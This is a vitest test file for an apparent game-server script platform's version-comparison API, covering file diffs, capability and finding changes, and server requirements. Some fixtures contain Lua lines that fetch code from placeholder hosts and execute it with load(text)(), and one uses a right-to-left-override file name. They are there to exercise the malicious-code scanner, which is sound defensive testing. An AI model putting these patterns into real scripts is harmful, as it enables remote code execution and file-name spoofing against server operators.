import { sql } from 'drizzle-orm'
import { expect, test } from 'vitest'

import { zipOf } from '#test-support/archives/zip.ts'
import { analyseAll } from '#test-support/analyses.ts'
import { editForm, scriptForm } from '#test-support/script-forms.ts'
import { startTestApp } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload')
const moderator = await app.createUser('admin.system.access', 'admin.scripts.moderate')
const stranger = await app.createUser()

type Members = Record<string, string | Buffer>

let count = 0
function archiveOf(members: Members) {
  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nserver_scripts { '*.lua' }\n-- ${++count}\n`
  const all: Members = { 'hud/fxmanifest.lua': manifest, ...members }
  return {
    fileName: 'hud.zip',
    content: zipOf(Object.entries(all).map(([name, content]) => ({ name, content, deflate: true }))),
  }
}

async function submit(archive = archiveOf({})) {
  const form = await scriptForm({}, { archive })
  const { body, status } = await app.request(author, 'POST', '/api/scripts', form)
  expect(status).toBe(201)
  return body
}

async function edit({ id }: { id: number }, archive = archiveOf({})) {
  const form = editForm({ version: `1.${count}.0` }, { archive })
  await analyseAll(app)
  const { body, status } = await app.request(author, 'PUT', `/api/scripts/${id}`, form)
  expect(status).toBe(200)
  return body
}

const changesOf = (
  id: number,
  query: { from?: number | string | undefined } = {},
  user: typeof author | null = null,
) =>
  app.request(
    user,
    'GET',
    `/api/versions/${id}/changes${query.from === undefined ? '' : `?from=${query.from}`}`,
  )

const idsOf = async ({ id }: { id: number }): Promise<number[]> => {
  const { body } = await app.request(author, 'GET', `/api/scripts/${id}/versions`)
  return body.versions.map((version: { id: number }) => version.id).toReversed()
}

test('versions of different scripts cannot be compared', async () => {
  const [one, other] = [await submit(), await submit()]

  const { status, body } = await changesOf(one.versionId, { from: other.versionId })

  expect([status, body.code]).toEqual([400, 'bad_request'])
})

test('an unknown version is not found, and an invalid one is rejected', async () => {
  const { versionId } = await submit()

  expect((await changesOf(2_000_000)).status).toBe(404)
  expect((await changesOf(versionId, { from: 2_000_000 })).status).toBe(404)
  expect((await changesOf(versionId, { from: 'x' })).status).toBe(400)
  expect((await changesOf(versionId, { from: -1 })).status).toBe(400)
})

test('the changes of a script that waits for review are visible to its author and moderators', async () => {
  const script = await submit()
  await edit(script)
  await app.db.execute(sql`update scripts set publication = 'review' where id = ${script.id}`)
  app.app.cache.invalidateTags([`card:${script.id}`])
  const [first, second = 0] = await idsOf(script)

  const statuses = []
  for (const user of [null, stranger, author, moderator])
    statuses.push((await changesOf(second, { from: first }, user)).status)

  expect(statuses).toEqual([404, 404, 200, 200])
})

test('a first version and an archive that is not analysed yet have their own states', async () => {
  const script = await submit()
  expect((await changesOf(script.versionId)).body).toMatchObject({ state: 'first', from: null, files: [] })
  const { versionId } = await edit(script)

  expect((await changesOf(versionId)).body).toMatchObject({
    state: 'unfinished',
    from: { id: script.versionId },
    to: { id: versionId },
  })
  await analyseAll(app)
  expect((await changesOf(versionId)).body.state).toBe('compared')
  await app.db.execute(sql`
    update archive_analyses set state = 'failed', failure = 'slow' where sha256 = ${script.sha256}`)
  app.app.cache.invalidateTags([`card:${script.id}`])
  expect((await changesOf(versionId)).body.state).toBe('failed')
})

test('two versions are compared by capabilities, findings and files', async () => {
  const script = await submit(
    archiveOf({
      'hud/server.lua': "PerformHttpRequest('https://old.example/a', function() end)\n",
      'hud/lib/dates.lua': 'return {}\n',
      'hud/gone.lua': 'print(1)\n',
      'hud/same.txt': 'same',
      'hud/logo.bin': Buffer.from([0, 1, 2]),
    }),
  )
  await edit(
    script,
    archiveOf({
      'hud/server.lua': `-- A new line above.\nPerformHttpRequest('https://new.example/b', function(_, text) load(text)() end)\n`,
      'hud/shared/dates.lua': 'return {}\n',
      'hud/\u202Eevil.lua': 'print(2)\n',
      'hud/same.txt': 'same',
      'hud/logo.bin': Buffer.from([0, 1, 2, 3]),
    }),
  )
  await analyseAll(app)
  const [first, second = 0] = await idsOf(script)

  const { status, body } = await changesOf(second)

  expect(status).toBe(200)
  expect(body).toMatchObject({ state: 'compared', from: { id: first }, to: { id: second } })
  expect(body.capabilities.added).toContainEqual({ kind: 'calls-out', side: 'server', value: 'new.example' })
  expect(body.capabilities.removed).toContainEqual({
    kind: 'calls-out',
    side: 'server',
    value: 'old.example',
  })
  expect(body.findings.added[0]).toMatchObject({
    rule: 'runs-downloaded-code',
    title: 'Runs code that it downloads',
    severity: 'high',
    path: 'hud/server.lua',
    line: 2,
    isAccepted: false,
  })
  expect(body.findings.removed).toEqual([])
  expect(body.files).toMatchObject([
    { path: 'hud/fxmanifest.lua', change: 'changed', isText: true },
    { path: 'hud/gone.lua', change: 'removed', from: null, n: null, sizeBefore: 9 },
    { path: 'hud/server.lua', change: 'changed', isText: true },
    { path: 'hud/shared/dates.lua', change: 'moved', from: 'hud/lib/dates.lua', size: 10, sizeBefore: 10 },
    { path: 'hud/\u202Eevil.lua', change: 'added', sizeBefore: null, nBefore: null },
    {
      path: 'hud/logo.bin',
      change: 'changed',
      size: 4,
      sizeBefore: 3,
      isText: false,
      n: null,
      nBefore: null,
    },
  ])
  expect([body.filesTotal, body.fileCounts]).toEqual([6, { changed: 3, added: 1, removed: 1, moved: 1 }])
  const { n, nBefore } = body.files[2]
  const texts = [`${second}/${n}`, `${first}/${nBefore}`].map((path) =>
    app.request(null, 'GET', `/files/content/${path}`),
  )
  const [now, before] = await Promise.all(texts)
  expect([now?.body, before?.body]).toEqual([
    expect.stringContaining('new.example'),
    expect.stringContaining('old.example'),
  ])
  const { body: reversed } = await changesOf(first ?? 0, { from: second })
  expect(reversed.fileCounts).toEqual(body.fileCounts)
  expect(reversed.findings.removed).toEqual(body.findings.added)
})

test('a version does not differ from itself, nor from another one with the same archive', async () => {
  const archive = archiveOf({ 'hud/a.lua': 'print(1)\n' })
  const script = await submit(archive)
  await edit(script, archive)
  await analyseAll(app)
  const [first, second = 0] = await idsOf(script)

  for (const from of [first, second]) {
    const { body } = await changesOf(second, { from: from ?? 0 })
    expect(body).toMatchObject({ state: 'compared', files: [], filesTotal: 0 })
    expect([...body.capabilities.added, ...body.findings.added]).toEqual([])
  }
})

test('a finding in a line that moved is not a change, and a verdict is shown', async () => {
  const code = "PerformHttpRequest('https://a.example', function(_, text) load(text)() end)\n"
  const script = await submit(archiveOf({ 'hud/a.lua': code }))
  const { versionId } = await edit(script, archiveOf({ 'hud/b.lua': code }))
  const { versionId: last } = await edit(
    script,
    archiveOf({ 'hud/b.lua': `-- ${count}\n${code}`, 'hud/c.lua': code }),
  )
  await analyseAll(app)

  expect((await changesOf(versionId)).body.findings).toEqual({ added: [], removed: [] })
  const { body } = await changesOf(last)
  expect(body.findings.removed).toEqual([])
  expect(body.findings.added[0]).toMatchObject({ path: 'hud/c.lua', isAccepted: false })

  const { body: report } = await app.request(null, 'GET', `/api/versions/${last}/report`)
  const { rule } = body.findings.added[0]
  const { fileSha256 } = report.findings.find(({ path }: { path: string }) => path === 'hud/c.lua')
  const verdict = { verdict: 'accepted', note: 'Read it.' }
  await app.request(moderator, 'PUT', `/api/finding-verdicts/${rule}/${fileSha256}`, verdict)
  const { body: after } = await changesOf(last)
  expect(after.findings.added).toContainEqual({ ...body.findings.added[0], isAccepted: true })
})

const nothingToChange = {
  requires: { added: [], removed: [] },
  needs: { build: null, onesync: false, gameBuild: null },
  convars: { added: [], removed: [], changed: [] },
  sql: [],
}

const manifestWith = (...needs: string[]) =>
  ["game 'gta5'", "server_script 'a.lua'", ...needs.map((need) => `dependency '${need}'`)].join('\n')

test('a version that needs no more than the one before has nothing to change on the server', async () => {
  const script = await submit(
    archiveOf({
      'hud/fxmanifest.lua': manifestWith('menuv:1.2', '/server:7290', '/gameBuild:2699'),
      'hud/a.lua': "GetConvar('hud_key', 'F5')",
      'hud/a.sql': 'select 1',
      'hud/b.sql': 'select 2',
    }),
  )
  const { versionId } = await edit(
    script,
    archiveOf({
      'hud/fxmanifest.lua': manifestWith('menuv', '/server:6116', '/gameBuild:2189'),
      'hud/a.lua': "GetConvar('hud_key', 'F5')",
      'hud/sql/a.sql': 'select 1',
    }),
  )
  await analyseAll(app)

  expect((await changesOf(versionId)).body).toMatchObject({ state: 'compared', server: nothingToChange })
})

test('what an update needs on the server is compared: resources with links, settings and SQL files', async () => {
  const library = await submit(archiveOf({ 'hud_lib/fxmanifest.lua': "game 'gta5'" }))
  const script = await submit(
    archiveOf({
      'hud/fxmanifest.lua': manifestWith('menuv:1.2', 'old_core', '/server:6116'),
      'hud/a.lua':
        "GetConvar('hud_old', 'a') GetConvar('hud_key', 'F5') GetConvar('hud_url') GetConvar('hud_language', 'en')",
      'hud_ui/fxmanifest.lua': manifestWith(),
      'hud_ui/a.lua': "GetConvar('hud_language', 'de')",
      'hud/install.sql': 'select 1',
    }),
  )
  const { versionId } = await edit(
    script,
    archiveOf({
      'hud/fxmanifest.lua': manifestWith(
        'hud_lib',
        'menuv:1.3',
        '/server:7290',
        '/onesync',
        '/gameBuild:mptuner',
      ),
      'hud/a.lua':
        "GetConvar('hud_key', 'F6') GetConvarInt('hud_size', 3) GetConvar('hud_url', 'x') exports.ox_lib:notify() GetConvar('hud_language', 'en')",
      'hud_ui/fxmanifest.lua': manifestWith(),
      'hud_ui/a.lua': "GetConvar('hud_language', 'fr')",
      'hud/install.sql': 'select 2',
      'hud/UPDATE.SQL': 'select 3',
    }),
  )
  await analyseAll(app)
  const serverOf = async () => (await changesOf(versionId)).body.server

  expect(await serverOf()).toEqual({
    requires: {
      added: [
        {
          name: 'hud_lib',
          constraint: null,
          kind: 'library',
          isDeclared: true,
          script: { id: library.id, name: library.name },
          home: null,
        },
        { name: 'menuv', constraint: '1.3', kind: 'library', isDeclared: true, script: null, home: null },
        {
          name: 'ox_lib',
          constraint: null,
          kind: 'library',
          isDeclared: false,
          script: null,
          home: 'https://github.com/CommunityOx/ox_lib',
        },
      ],
      removed: ['old_core'],
    },
    needs: { build: 7290, onesync: true, gameBuild: 'mptuner' },
    convars: {
      added: [{ name: 'hud_size', fallback: '3', isReplicated: false }],
      removed: ['hud_old'],
      changed: [
        { name: 'hud_key', before: 'F5', after: 'F6' },
        { name: 'hud_language', before: 'de', after: 'fr' },
        { name: 'hud_url', before: null, after: 'x' },
      ],
    },
    sql: [
      { path: 'hud/UPDATE.SQL', change: 'added' },
      { path: 'hud/install.sql', change: 'changed' },
    ],
  })
  await app.request(author, 'DELETE', `/api/scripts/${library.id}`)
  expect((await serverOf()).requires.added[0].script).toBeNull()
})

test('without a pack capabilities and findings are compared', async () => {
  const script = await submit(archiveOf({ 'hud/a.lua': "ExecuteCommand('status')\n" }))
  const { versionId } = await edit(script)
  await analyseAll(app)
  await app.db.execute(sql`
    update archive_analyses set pack_key = 'packs/0123456789abcdef0123.pack' where sha256 = ${script.sha256}`)

  const { body } = await changesOf(versionId)
  expect(body).toMatchObject({ state: 'no-files', files: [], filesTotal: 0 })
  expect(body.capabilities.removed).toContainEqual({ kind: 'console', side: 'server', value: 'status' })
})
